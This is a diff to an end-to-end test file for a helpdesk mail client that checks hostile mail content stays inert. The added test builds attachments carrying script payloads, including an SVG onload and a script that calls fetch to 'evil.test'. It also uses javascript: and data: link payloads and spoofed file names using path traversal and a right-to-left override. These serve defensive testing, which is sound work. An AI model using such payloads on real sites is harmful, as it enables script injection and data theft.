@@ -197,13 +197,17 @@ test('D07 D08 a hostile mail stays clean when it is pasted into an answer, sent 
   await expect(composer(page).locator('[data-lexical-editor]')).toBeVisible()
   await editor(page).focus()
   await page.keyboard.type('As you wrote: ')
-  const html = hostileMails.map((hostile) => hostile.html.replaceAll('\0', '')).join('\n')
-  await editor(page).evaluate((element, pasted) => {
-    const clipboardData = new DataTransfer()
-    clipboardData.setData('text/html', pasted)
-    clipboardData.setData('text/plain', 'words')
-    element.dispatchEvent(new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true }))
-  }, html)
+  // Each on its own: an element that makes text of all behind it would hide the others.
+  const paste = (html: string) =>
+    editor(page).evaluate((element, pasted) => {
+      const clipboardData = new DataTransfer()
+      clipboardData.setData('text/html', pasted)
+      clipboardData.setData('text/plain', 'words')
+      element.dispatchEvent(new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true }))
+    }, html)
+  for (const { html } of hostileMails) if (html) await paste(html.replaceAll('\0', ''))
+  await paste('<p><b>Read as HTML to the end</b></p>')
+  await expect(editor(page).locator('strong', { hasText: 'Read as HTML to the end' })).toBeVisible()
   await page.waitForTimeout(500)
   expect([...(await inspect(page)), ...traces.splice(0)]).toEqual([])
   await composer(page).getByRole('button', { name: 'Send', exact: true }).click()
@@ -231,4 +235,88 @@ test('D07 D08 a hostile mail stays clean when it is pasted into an answer, sent 
   await expect(thread(page).locator('.hd-message--reply')).toBeVisible()
   await page.waitForTimeout(500)
   expect([...(await inspect(page)), ...traces.splice(0)]).toEqual([])
+})
+
+test('D02 D09 D10 D11 D14 the files and links of a mail never run, wherever they are opened', async ({
+  page,
+  mail,
+  baseURL,
+}) => {
+  const traces = await listen(page, baseURL!)
+  const script = `<svg xmlns="http://www.w3.org/2000/svg" onload="window.hacked=1;alert(1)"><script>window.hacked=1;alert(2);fetch('https://evil.test/x')</script></svg>`
+  const files: [name: string, type: string][] = [
+    ['a.svg', 'image/svg+xml'],
+    ['b.html', 'text/html'],
+    ['c.xhtml', 'application/xhtml+xml'],
+    ['d.xml', 'text/xml'],
+    ['e.pdf', 'application/pdf'],
+    ['f.eml', 'message/rfc822'],
+    ['g.png', 'text/html'],
+    ['h.png', 'image/png'],
+    ['../../i.svg', 'IMAGE/SVG+XML'],
+    ['j\u202egpj.exe', 'application/octet-stream'],
+  ]
+  const words =
+    'See javascript:alert(1) or http://evil.test/?x="onmouseover=alert(1)" or data:text/html,<script>alert(1)</script> or https://example.com/ok'
+  const parts = [
+    `Content-Type: text/plain; charset=utf-8\r\n\r\n${words}`,
+    ...files.map(
+      ([name, type]) =>
+        `Content-Type: ${type}\r\nContent-Disposition: attachment; filename*=utf-8''${encodeURIComponent(name)}\r\n\r\n${script}`,
+    ),
+  ]
+  const subject = unique('Files')
+  await openInbox(page)
+  await deliver(
+    mail,
+    {
+      name: '',
+      source: '',
+      html: '',
+      headers: { 'Content-Type': 'multipart/mixed; boundary=b' },
+      bytes: Buffer.from(`${parts.map((part) => `--b\r\n${part}\r\n`).join('')}--b--\r\n`),
+    },
+    subject,
+  )
+  await rowOf(page, subject).click()
+  await expect(heading(page)).toContainText(subject)
+  const message = thread(page).locator('.hd-message--customer')
+  await expect(message).toContainText('javascript:alert(1)')
+  const links = await message
+    .locator('a[href]')
+    .evaluateAll((all) =>
+      all.map((link) => ({ href: (link as HTMLAnchorElement).href, rel: link.getAttribute('rel') ?? '' })),
+    )
+  const written = links.filter(({ href }) => !href.includes('/helpdesk/attachments/'))
+  expect(written.map(({ href }) => href)).toContain('https://example.com/ok')
+  for (const { href, rel } of written) {
+    expect(href).toMatch(/^https?:/)
+    expect(rel).toContain('noopener')
+  }
+  const attached = [
+    ...new Set(links.map(({ href }) => href).filter((href) => href.includes('/helpdesk/attachments/'))),
+  ]
+  for (const src of await message
+    .locator('img')
+    .evaluateAll((all) => all.map((image) => (image as HTMLImageElement).src)))
+    if (src.includes('/helpdesk/attachments/')) attached.push(src)
+  expect(attached.length).toBeGreaterThanOrEqual(files.length)
+  const names: string[] = []
+  for (const href of attached) {
+    const tab = await page.context().newPage()
+    tab.on('dialog', (dialog) => {
+      traces.push({ what: `dialog of ${href}` })
+      void dialog.dismiss()
+    })
+    tab.on('download', (download) => names.push(download.suggestedFilename()))
+    // A download ends the navigation.
+    await tab.goto(href).catch(() => undefined)
+    await tab.waitForTimeout(150)
+    if (await tab.evaluate(() => 'hacked' in window)) traces.push({ what: `a script of ${href} ran` })
+    await tab.close()
+  }
+  expect([...(await inspect(page)), ...traces.splice(0)]).toEqual([])
+  // All but the one that says it is a picture, which is shown as one that is broken.
+  expect(names.length).toBeGreaterThanOrEqual(files.length - 1)
+  for (const name of names) expect(name).not.toMatch(/[/\\\u202e]|^\.\./)
 })
